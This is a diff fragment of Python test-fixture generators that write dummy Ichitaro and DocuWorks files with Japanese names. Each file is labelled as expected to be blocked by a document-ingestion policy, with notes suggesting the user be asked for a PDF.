+    streams = {"DocumentText": doc_text, "Font": b"FontV.01\0\0", "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46,
+               "\x04JSRV_SummaryInformation": b"\0" * 64, "DocumentViewStyles": b"\0" * 32}
+    if compressed:
+        streams = {"JSCompDocument": b"JustCompressedDocument\0" + b"-lh5-" + b"\0" * 40,
+                   "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 46}
+    return write_cfb(streams, ("DocumentMacro",))
+
+
+@generator("ichitaro")
+def ichitaro_samples(out: Path) -> list[Sample]:
+    base = out / "ichitaro"
+    base.mkdir(parents=True, exist_ok=True)
+    (base / "申請書.jtd").write_bytes(make_jtd([JA_TITLE, JA_BODY]))
+    (base / "圧縮.jtdc").write_bytes(make_jtd([JA_TITLE], compressed=True))
+    return [Sample("ichitaro/申請書.jtd", "blocked", ["policy.blocked"],
+                   note="default policy blocks (ask for PDF); text-only policy extracts the body"),
+            Sample("ichitaro/圧縮.jtdc", "blocked", ["policy.blocked"], note="compressed: no text either")]
+
+
+@generator("docuworks")
+def docuworks_samples(out: Path) -> list[Sample]:
+    base = out / "docuworks"
+    base.mkdir(parents=True, exist_ok=True)
+    (base / "決裁文書.xdw").write_bytes(b"XDWF" + bytes(range(256)) * 4)
+    return [Sample("docuworks/決裁文書.xdw", "blocked", ["policy.blocked"], note="closed format: ask for a PDF")]
